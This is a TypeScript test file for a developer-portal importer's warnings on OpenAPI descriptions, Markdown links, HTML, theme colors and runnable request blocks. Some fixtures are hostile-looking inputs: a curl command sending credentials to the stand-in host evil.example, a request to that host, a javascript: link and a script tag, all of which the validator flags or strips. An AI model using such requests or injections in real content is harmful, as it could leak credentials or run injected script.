import assert from 'node:assert/strict'
import { test, type TestContext } from 'node:test'
import { lineOf } from '../../../server/src/lib/yaml/mistakes'
import { readContent } from '../../../server/src/import/read-folder'
import { contentFiles, nothingStored } from '../../support/server/content'
import { testFolder } from '../../support/server/folder'

type Files = Record<string, string | Buffer | null>

/** The usual content, and a description for its first version. */
const sound: Files = {
  ...contentFiles,
  'tides/versions/1.0/openapi.json': JSON.stringify(
    { openapi: '3.0.3', info: { title: 'Tides', version: '1.0' }, paths: {} },
    null,
    2,
  ),
}

async function warningsOf(t: TestContext, files: Files): Promise<string[]> {
  const folder = await testFolder(t, { ...sound, ...files })
  const { warnings } = await readContent(folder.path, nothingStored)
  assert.equal(warnings.count, warnings.list.length)
  return warnings.list.map(lineOf)
}

const description = (rest: string, version = '3.1.0') => ({
  'tides/versions/2.0/openapi.yaml': `openapi: ${version}\ninfo: { title: T, version: '2' }\n${rest}`,
})
const theme = (tokens: string) => ({
  'portal.yaml': `${contentFiles['portal.yaml']}appearance:\n  theme:\n    ${tokens}\n`,
})
const twice = '    get: { operationId: a, responses: { default: { description: d } } }\n'

const cases: Record<string, { files: Files; said: string[] }> = {
  'a listed version whose folder is missing': {
    files: { 'tides/versions/1.0/openapi.json': null },
    said: [
      'tides/product.yaml:8:11: version "1.0" has no API description; add tides/versions/1.0/openapi.yaml, or name a file with `specification`',
    ],
  },
  'a folder without product.yaml': {
    files: { 'pictures/a.txt': 'a', 'brand/logo.png': Buffer.from('89504e470d0a1a0a', 'hex') },
    said: [
      'brand:1:1: has no product.yaml, so it is no product; add one, or remove the folder (a name that begins with a dot is left out)',
      'pictures:1:1: has no product.yaml, so it is no product; add one, or remove the folder (a name that begins with a dot is left out)',
    ],
  },
  'a folder with the logo': {
    files: {
      'brand/logo.png': Buffer.from('89504e470d0a1a0a', 'hex'),
      'portal.yaml': `${contentFiles['portal.yaml']}appearance: { logo: brand/logo.png }\n`,
    },
    said: [],
  },
  'references to nothing and out of the description': {
    files: description(
      `paths:\n  /a:\n    $ref: 'other.yaml#/a'\ncomponents:\n  schemas:\n    A: { $ref: '#/components/schemas/Missing' }\n    B: { $ref: '#/components/schemas/A' }\n    C: { $anchor: c }\n    D: { $ref: '#c' }\n    E: { example: { $ref: '#/no' }, properties: { default: { $ref: '#/none' } } }\n`,
    ),
    said: [
      'tides/versions/2.0/openapi.yaml:5:5: `$ref` leads to "other.yaml#/a", outside of this description, which is all that readers get; bundle the description into one file, for example with `redocly bundle`',
      'tides/versions/2.0/openapi.yaml:8:10: `$ref` leads to "#/components/schemas/Missing", which this description does not have; correct it or add that part',
      'tides/versions/2.0/openapi.yaml:12:62: `$ref` leads to "#/none", which this description does not have; correct it or add that part',
    ],
  },
  'an operation ID twice': {
    files: description(
      `paths:\n  /a:\n${twice}  /b:\n${twice}webhooks:\n  c:\n${twice.replace('get', 'post')}`,
    ),
    said: [
      'tides/versions/2.0/openapi.yaml:7:12: `operationId` "a" is that of GET /a too; give this operation another one, because links name operations by it',
      'tides/versions/2.0/openapi.yaml:10:13: `operationId` "a" is that of GET /a too; give this operation another one, because links name operations by it',
    ],
  },
  'what the schema of OpenAPI 3.1 refuses': {
    files: description(
      'paths:\n  /a:\n    get:\n      sumary: A\n      parameters: [{ name: q, in: quary, schema: {} }, { name: id, in: path, schema: {} }]\n',
    ),
    said: [
      'tides/versions/2.0/openapi.yaml:6:7: `sumary` is not a known key; did you mean `summary`? (schema of OpenAPI)',
      'tides/versions/2.0/openapi.yaml:7:31: `paths./a.get.parameters[1].in` must be one of query, header, path, cookie (schema of OpenAPI)',
      'tides/versions/2.0/openapi.yaml:7:56: `paths./a.get.parameters[2]`: `required` is missing (schema of OpenAPI)',
    ],
  },
  'what the schema of OpenAPI 3.0 refuses, whose forms each have their reason': {
    files: description(
      'paths:\n  /a:\n    get:\n      parameters: [{ name: q, in: quary, schema: {} }, { name: id, in: path, schema: {} }]\n      responses: { 200: {} }\n',
      '3.0.3',
    ),
    said: [
      'tides/versions/2.0/openapi.yaml:6:31: `paths./a.get.parameters[1].in` must be one of path, query, header, cookie (schema of OpenAPI)',
      'tides/versions/2.0/openapi.yaml:6:56: `paths./a.get.parameters[2]`: `required` is missing (schema of OpenAPI)',
      'tides/versions/2.0/openapi.yaml:7:20: `paths./a.get.responses.200`: `description` is missing (schema of OpenAPI)',
    ],
  },
  'links and images that lead to nothing': {
    files: {
      'tides/docs/welcome.md':
        '---\norder: 1\n---\n\n# Welcome\n\n[one](gone.md)\n[two](guides/index.md)\n[three](guides/first-cal.md) ![m](map.png)\n\n' +
        '| a |\n| - |\n| [four](#welcom) [five](guides/first-call.md#no) |\n\n[six](../../product.yaml) [seven](javascript:x) [eight](https://a.example) [nine](/catalog)\n',
    },
    said: [
      'tides/docs/welcome.md:7:1: a link leads to "gone.md", and there is no document "gone"',
      'tides/docs/welcome.md:9:1: a link leads to "guides/first-cal.md", and there is no document "guides/first-cal"; did you mean "guides/first-call"?',
      'tides/docs/welcome.md:9:1: there is no image "map.png" in docs',
      'tides/docs/welcome.md:13:1: a link leads to "#welcom", and no heading has the anchor "welcom"; did you mean "welcome"?',
      'tides/docs/welcome.md:13:1: a link leads to "guides/first-call.md#no", and no heading has the anchor "no"',
      'tides/docs/welcome.md:15:1: a link leads to "../../product.yaml", and there is no document "product.yaml"',
      'tides/docs/welcome.md:15:1: a link to "javascript:x" is left out, because its scheme is not one of http, https, mailto and tel',
    ],
  },
  'HTML that is left out': {
    files: {
      'tides/docs/welcome.md':
        '# Welcome\n\n<div class="a" align="center">\n<video src="x.mp4"></video>\n</div>\n\nA <kbd>b</kbd> <img src="https://a.example/b.png" width="wide">\n\n<a href="gone.md">c</a> <video></video>\n<script>d</script>\n\nText[^1].\n\n[^1]: A note\n    with a [link](gone.md).\n',
    },
    said: [
      'tides/docs/welcome.md:3:1: `class` of `<div>` is left out; write it without, in Markdown or in HTML that only gives form',
      'tides/docs/welcome.md:4:1: `<video>` is left out; write it without, in Markdown or in HTML that only gives form',
      'tides/docs/welcome.md:7:1: `width` of `<img>`, which is no length such as 200 or 50%, is left out; write it without, in Markdown or in HTML that only gives form',
      'tides/docs/welcome.md:9:1: a link leads to "gone.md", and there is no document "gone"',
      'tides/docs/welcome.md:10:1: `<script>` is left out; write it without, in Markdown or in HTML that only gives form',
      'tides/docs/welcome.md:15:1: a link leads to "gone.md", and there is no document "gone"',
    ],
  },
  'a color that is none, and one that can be seen through': {
    files: theme("section_colors: { hero: 'bleu', header: '#0000' }"),
    said: ['bleu', '#0000'].map(
      (value, index) =>
        `portal.yaml:14:${index === 0 ? 29 : 45}: \`appearance.theme.section_colors.${index === 0 ? 'hero' : 'header'}\`: "${value}" is no opaque color in hexadecimal, rgb(), hsl() or hwb(), or by name, so the portal may leave it out; write one, or light-dark(…, …) with one for each scheme`,
    ),
  },
  'a color of each form': {
    files: theme(
      "section_colors: { hero: 'hwb(200 10% 20%)', body: 'light-dark(#fff, black)', header: 'rgb(1 2 3)', stroke: 'hsl(200, 10%, 20%)' }",
    ),
    said: [],
  },
  'a token that the portal does not know, and a length among fonts': {
    files: theme("section_colors: { hreo: '#fff' }\n    fonts: { base: '16px Arial' }"),
    said: [
      'portal.yaml:14:23: `hreo` is no color of the portal; did you mean `hero`?',
      'portal.yaml:15:20: `appearance.theme.fonts.base`: "16px Arial" is no list of font families, so the portal leaves it out; write names with commas between them, and neither sizes nor functions',
    ],
  },
  'words of front matter that nobody reads': {
    files: { 'tides/docs/welcome.md': '---\ntitel: Hello\nauthor: Ada\nx-team: sea\n---\n' },
    said: [
      'tides/docs/welcome.md:2:1: no page of the portal reads `titel`; begin a key of your own with `x-`; did you mean `title`?',
      'tides/docs/welcome.md:3:1: no page of the portal reads `author`; begin a key of your own with `x-`; known here: title, slug, order',
    ],
  },
  'requests that readers cannot run': {
    files: {
      'tides/versions/1.0/openapi.json': JSON.stringify({
        openapi: '3.1.0',
        info: { title: 'Tides', version: '1.0' },
        servers: [{ url: 'https://api.example.com/v1' }],
        paths: {
          '/tides/{id}': { get: { operationId: 'getTide', responses: { 200: { description: 'd' } } } },
        },
      }),
      'tides/docs/guide.md': [
        '---\ntitle: Guide\n---\n\n# Guide',
        '```request\noperation: getTides\n```',
        '```request\noperation: getTide\ncapture: { next: id }\n```',
        '```request\noperation: getTide\nversion: v9\n```',
        '- In a list:\n\n  ```request\n  operation: getTide\n  parameters: { id: "{{next}}" }\n  expct: 200\n  ```',
        '```request\noperation: getTide\nparameters: { id: "{{other}}" }\n```',
        '```curl\ncurl https://api.example.com/v1/tides/1 -H "X-Api-Key: $API_KEY"\n```',
        '```curl\ncurl https://evil.example/ \\\n  -u a:b\n```',
        '```http\nGET https://evil.example/\n```',
        '```http\nX-Header: of a response\n```',
      ].join('\n\n'),
    },
    said: [
      'tides/docs/guide.md:8:1: the request names the operation "getTides", which no API description has; did you mean "getTide"?',
      'tides/docs/guide.md:12:1: the request has no value for "id" in `parameters`, which the path needs',
      'tides/docs/guide.md:17:1: the request names the version "v9", which the product does not have',
      'tides/docs/guide.md:26:1: the request has no key `expct`; known: operation, version, parameters, body, expect, capture',
      'tides/docs/guide.md:30:1: the request uses "other", which no request before it has in `capture`',
      'tides/docs/guide.md:40:1: the request `-u` cannot be sent from a page; use the fence `sh` for code that is not run here',
      "tides/docs/guide.md:44:1: the request goes to https://evil.example, which is no server of the product: it is sent without the reader's credentials",
    ],
  },
  'tabs and steps without an end, a beginning or a heading': {
    files: {
      'tides/docs/guide.md': [
        '# Guide',
        '<!-- steps:start -->\n\n## One\n\n> <!-- steps:end -->',
        '<!-- tabs:start -->\n\nText\n\n<!-- tabs:end -->',
        '<!-- tabs:end -->',
        'In a line <!-- steps:start --> it is none.',
      ].join('\n\n'),
    },
    said: [
      'tides/docs/guide.md:3:1: the steps have no end; write `<!-- steps:end -->` behind them',
      'tides/docs/guide.md:7:1: `<!-- steps:end -->` ends nothing; write `<!-- steps:start -->` before',
      'tides/docs/guide.md:9:1: the tabs have no heading; each of them begins with one',
      'tides/docs/guide.md:15:1: `<!-- tabs:end -->` ends nothing; write `<!-- tabs:start -->` before',
    ],
  },
}

test('sound content has no warnings', async (t) => {
  assert.deepEqual(await warningsOf(t, {}), [])
})

for (const [name, { files, said }] of Object.entries(cases)) {
  test(`a warning: ${name}`, async (t) => assert.deepEqual(await warningsOf(t, files), said))
}

test('of a thousand faults in one description some are named, and of more warnings the first thousand', async (t) => {
  const operations = Array.from({ length: 1_000 }, (_, index) => `  /${index}: { get: { sumary: a } }\n`)
  const one = await warningsOf(t, description(`paths:\n${operations.join('')}`))
  assert.equal(one.length, 21)
  assert.match(one.at(-1) ?? '', /^tides\/versions\/2\.0\/openapi\.yaml:23:\d+: and 980 more of this kind$/)

  const pages = Array.from({ length: 1_200 }, (_, index) => [`tides/docs/p${index}.md`, '[x](gone.md)\n'])
  const folder = await testFolder(t, { ...sound, ...Object.fromEntries(pages) })
  const { warnings } = await readContent(folder.path, nothingStored)
  assert.deepEqual([warnings.count, warnings.list.length], [1_200, 1_000])
})

test('a description that nests more deeply than the stack is imported without this check', async (t) => {
  const deep = `${'{"a":'.repeat(20_000)}1${'}'.repeat(20_000)}`
  const json = `{"openapi":"3.1.0","info":{"title":"T","version":"1"},"paths":{},"components":{"schemas":{"A":${deep}}}}`
  const files = { 'tides/versions/2.0/openapi.yaml': null, 'tides/versions/2.0/openapi.json': json }
  assert.deepEqual(await warningsOf(t, files), [])
})
